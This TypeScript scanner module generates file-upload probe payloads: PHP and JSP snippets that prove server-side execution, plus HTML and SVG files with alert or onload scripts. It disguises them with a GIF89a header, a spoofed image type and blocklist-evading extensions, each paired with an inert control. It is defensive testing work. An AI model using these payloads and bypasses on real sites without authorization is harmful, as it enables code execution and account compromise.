import type { Surface } from '../../model/surface.ts';
import type { UploadedFile } from '../inputs/input-request.ts';

/** A file that does something where it is kept, and shows that it did; the same file without what makes it do so. */
export type ActiveFile = {
  file: UploadedFile;
  inert: UploadedFile;
  /** Run by the server, with what its page shows then; or opened as a page of the site, which opens a dialog. */
  effect: { runs: string } | 'opens';
  /** What was seen, in words. */
  detail: string;
};

/** Its name distinguishes it from what others have sent. */
const name = '‹nonce3›';
/** Some sites look at the beginning of a file, and at the type that the browser says: of photos, which every list of types has. */
const picture = 'GIF89a;';
const photo = 'image/jpeg';

const run = (ending: string, code: (begin: string) => string, language: string): ActiveFile => {
  const file = (begin: string): UploadedFile => ({
    ...{ name: `${name}.${ending}`, type: photo },
    content: `${picture}‹nonce›${code(begin)}‹nonce2›`,
  });
  return {
    file: file(''),
    inert: file('q'),
    effect: { runs: '‹nonce›‹product:int:int2›‹nonce2›' },
    detail: `The server runs a file that ends in ".${ending}" as ${language}.`,
  };
};

const php = (ending: string) => run(ending, (begin) => `<?php${begin} echo ‹int›*‹int2›;?>`, 'PHP');
/** What is run, what lists of refused endings forget, and what has the endings of pictures somewhere. */
const phpEndings = ['php', 'phtml', 'jpg.gif.php', 'jpg.gif.phtml', 'phar'];
const jsp = run('jsp', (begin) => `<%${begin}= ‹int›*‹int2› %>`, 'JSP');

const opened = (ending: string, type: string, write: (script: string) => string): ActiveFile => {
  const file = (script: string): UploadedFile => ({ name: `${name}.${ending}`, type, content: write(script) });
  return {
    file: file("alert('‹nonce›')"),
    inert: file("void '‹nonce›'"),
    effect: 'opens',
    detail: `A file that ends in ".${ending}" is opened as a page of the site, and its script is run.`,
  };
};

const html = opened('html', 'text/html', (script) => `<!doctype html><title>a</title><script>${script}</script>`);
const svg = opened(
  'svg',
  'image/svg+xml',
  (script) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
);

/** Where the element of a script is taken for the only way. */
const loaded = opened(
  'svg',
  'image/svg+xml',
  (script) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><path d="M0 0h8v8z"/></svg>`,
);

/** Files to try, by what the site seems to be made with. */
export function filesFor({ pages }: Surface): ActiveFile[] {
  const isOf = (path: RegExp, header: RegExp): boolean =>
    pages.some(
      ({ url, headers, setCookies }) =>
        path.test(new URL(url).pathname) ||
        setCookies.some((cookie) => header.test(cookie)) ||
        headers.some(([field, value]) => /^(?:x-powered-by|server)$/i.test(field) && header.test(value)),
    );
  if (isOf(/\.php\d?(?:\/|$)/i, /\bphp/i)) return [...phpEndings.map(php), svg, loaded, html];
  if (isOf(/\.(?:jspx?|do)(?:;|$)/i, /\b(?:jsp|servlet|jsessionid|tomcat|jetty)/i)) return [jsp, svg, loaded, html];
  return [html, svg, loaded];
}
